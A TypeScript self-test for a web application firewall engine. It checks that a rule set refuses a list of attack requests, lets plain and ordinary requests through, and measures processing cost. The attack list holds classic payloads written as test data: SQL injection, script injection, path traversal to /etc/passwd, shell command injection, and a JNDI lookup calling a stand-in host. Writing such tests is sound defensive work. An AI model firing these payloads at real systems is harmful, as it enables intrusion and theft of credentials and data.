import { createHash } from 'node:crypto';
import { fieldsByName, type Field, type RequestHead } from '@sallyport/contracts';
import { Engine, type InspectionAnswer, type RulesInForce } from '@sallyport/waf';

/** A request as plain as it gets: what differs is what the self-test is about. */
interface Probe {
  readonly name: string;
  readonly method?: string;
  readonly path?: string;
  readonly query?: string;
  readonly fields?: readonly Field[];
  readonly mediaType?: string;
  readonly body?: string;
}

const form = 'application/x-www-form-urlencoded';
const json = 'application/json';

/** One of each kind that every rule set refuses at paranoia level 1. */
const attacks: readonly Probe[] = [
  { name: 'SQL injection in a query', query: "id=1'%20OR%20'1'='1'%20--%20" },
  { name: 'SQL injection by UNION', query: 'id=-1%20UNION%20SELECT%20username,password%20FROM%20users--' },
  { name: 'SQL injection in a form', method: 'POST', mediaType: form, body: "user=admin'%20or%201=1--%20" },
  { name: 'script in a query', query: 'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' },
  { name: 'event handler in a form', method: 'POST', mediaType: form, body: 'q=%3Cimg%20src=x%20onerror=alert(1)%3E' },
  { name: 'climb to a file of the system', query: 'file=../../../../etc/passwd' },
  { name: 'command of a shell', query: 'host=127.0.0.1;cat%20/etc/passwd' },
  { name: 'command in JSON', method: 'POST', mediaType: json, body: '{"host":"a; cat /etc/passwd"}' },
  {
    name: 'SQL injection in JSON',
    method: 'POST',
    mediaType: json,
    body: '{"id":"1\' UNION SELECT password FROM users -- "}',
  },
  { name: 'lookup of a logger', query: 'q=$%7Bjndi:ldap://evil.example/a%7D' },
];

const plain: readonly Probe[] = [
  { name: 'a page of a list', query: 'page=2&sort=name' },
  { name: 'a search', query: 'q=red+shoes+size+42' },
  { name: 'one item', path: '/orders/8f3c2d10' },
  { name: 'a form', method: 'POST', mediaType: form, body: 'name=Ann+Smith&city=Leeds&note=second+floor' },
  { name: 'a small document', method: 'POST', mediaType: json, body: '{"item":"lamp","count":2,"gift":false}' },
  { name: 'nested JSON', method: 'POST', mediaType: json, body: '{"order":{"lines":[{"sku":"A-1","n":1}]}}' },
  { name: 'a date range', query: 'from=2026-01-01&to=2026-02-01' },
  { name: 'a cookie', fields: [{ name: 'cookie', value: 'session=4f9c21; theme=dark' }] },
  { name: 'a list of ids', query: 'id=1&id=2&id=3' },
  { name: 'no question at all' },
];

const chat = {
  model: 'small',
  stream: true,
  messages: [
    { role: 'system', content: 'You answer briefly, in plain words, and say so when you do not know.' },
    { role: 'user', content: "What does `SELECT name FROM users WHERE id = 1` do, and why isn't it <b>safe</b>?" },
  ],
};
const upload = [
  '--boundary-of-parts',
  'Content-Disposition: form-data; name="title"',
  '',
  'A picture of the harbour',
  '--boundary-of-parts',
  'Content-Disposition: form-data; name="file"; filename="harbour.png"',
  'Content-Type: image/png',
  '',
  'PNG',
  '--boundary-of-parts--',
  '',
].join('\r\n');

/** An entry of a list as APIs have them: of each kind of text there is one, and no two entries have the same. */
function entry(number: number): Readonly<Record<string, string | number>> {
  const digest = createHash('sha256').update(`entry ${number}`).digest();
  const hex = digest.toString('hex');
  return {
    id: `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`,
    number: digest.readUInt32BE(),
    price: `${digest.readUInt16BE()}.${10 + (number % 90)}`,
    code: digest.toString('base64url', 0, 9),
    at: new Date(digest.readUInt32BE() * 1000).toISOString(),
    mail: `ann.${hex.slice(0, 4)}@mail.example`,
    link: `https://shop.example/items/${hex.slice(0, 6)}?size=${number}`,
    note: `Please leave it with the neighbours at no. ${number}, second floor (left).`,
  };
}
const list = JSON.stringify({ entries: Array.from({ length: 60 }, (_, number) => entry(number)) });
const longForm = [60, 61, 62]
  .map((number) =>
    new URLSearchParams(
      Object.entries(entry(number)).map(([name, value]): [string, string] => [name, String(value)]),
    ).toString(),
  )
  .join('&');

/** What is ordinary at a gateway beside the plain ones. */
const ordinary: readonly Probe[] = [
  { name: 'a chat', method: 'POST', path: '/v1/chat/completions', mediaType: json, body: JSON.stringify(chat) },
  { name: 'a list', method: 'POST', mediaType: json, body: list },
  { name: 'a long form', method: 'POST', mediaType: form, body: longForm },
  { name: 'an upload', method: 'POST', mediaType: 'multipart/form-data; boundary=boundary-of-parts', body: upload },
  {
    name: 'a GraphQL document',
    method: 'POST',
    path: '/graphql',
    mediaType: json,
    body: JSON.stringify({ query: 'query Q($n: Int) { orders(first: $n) { id total } }', variables: { n: 3 } }),
  },
  {
    name: 'a page in a browser',
    query: 'utm_source=mail&utm_campaign=spring%20sale&ref=%2Fhome&lang=en-GB&page=3',
    fields: [
      { name: 'accept-language', value: 'en-GB,en;q=0.8,de;q=0.5' },
      { name: 'accept-encoding', value: 'gzip, deflate, br, zstd' },
      { name: 'referer', value: 'https://shop.example/catalogue?sort=price' },
      { name: 'cookie', value: 'session=4f9c21e7; theme=dark; consent=all' },
      { name: 'sec-fetch-mode', value: 'navigate' },
    ],
  },
];

const PLAN = 'structural:block';
const MEASURED_ROUNDS = 20;

/** What a rule set is worth before it is let at requests. */
export interface SelfTest {
  /** What is wrong, in words; empty: nothing. */
  readonly faults: readonly string[];
  /** Processor time of one plain request, warm, in microseconds. */
  readonly cpuMicros: number;
}

/** Ten attacks are refused, ten plain requests pass, and it is known what one of them costs. */
export async function selfTest(rules: RulesInForce | undefined): Promise<SelfTest> {
  // What is cold takes longer than it may; a self-test is not about that.
  const engine = new Engine({ rules: () => rules, used: () => 0 });
  const faults: string[] = [];
  for (const probe of attacks) if (!(await isRefused(engine, probe))) faults.push(`does not refuse: ${probe.name}`);
  for (const probe of plain) if (await isRefused(engine, probe)) faults.push(`refuses: ${probe.name}`);
  const before = process.cpuUsage();
  for (let round = 0; round < MEASURED_ROUNDS; round++) for (const probe of plain) await isRefused(engine, probe);
  const { user, system } = process.cpuUsage(before);
  return { faults, cpuMicros: Math.round((user + system) / (MEASURED_ROUNDS * plain.length)) };
}

/** Lets a rule set meet what it will meet, so that the first requests do not wait for what is made when it is first needed. */
export async function warmUp(rules: RulesInForce, rounds: number): Promise<void> {
  const engine = new Engine({ rules: () => rules, used: () => 0 });
  for (let round = 0; round < rounds; round++) {
    for (const probe of [...attacks, ...plain, ...ordinary]) {
      await isRefused(engine, probe);
      await new Promise(setImmediate);
    }
  }
}

function isRefused(engine: Engine, probe: Probe): Promise<boolean> {
  const { body } = probe;
  return new Promise((resolve) => {
    const last = body === undefined ? 'request-head' : 'request-body';
    const hear = ({ verdict, point }: InspectionAnswer): void => {
      if (verdict === 'refuse') resolve(true);
      else if (point === last) resolve(false);
    };
    const inspection = engine.open(
      { head: headOf(probe), plan: PLAN, tenant: 'default', requestId: 'self-test' },
      hear,
    );
    if (body === undefined) return;
    inspection.body(Buffer.from(body));
    inspection.bodyEnd();
  });
}

function headOf({ method = 'GET', path = '/orders', query = '', fields = [], mediaType, body }: Probe): RequestHead {
  const framing: Field[] =
    body === undefined
      ? []
      : [
          { name: 'content-type', value: mediaType! },
          { name: 'content-length', value: String(body.length) },
        ];
  const all: Field[] = [
    { name: 'host', value: 'shop.example' },
    { name: 'user-agent', value: 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0' },
    { name: 'accept', value: '*/*' },
    ...framing,
    ...fields,
  ];
  return {
    method,
    scheme: 'http',
    authority: 'shop.example',
    path,
    query,
    hasQuery: query !== '',
    rawTarget: query === '' ? path : `${path}?${query}`,
    version: '1.1',
    fields: all,
    field: fieldsByName(all),
    clientAddress: '192.0.2.7',
    contentLength: body?.length,
    hasBody: body !== undefined,
    mediaType: mediaType?.split(';')[0],
  };
}
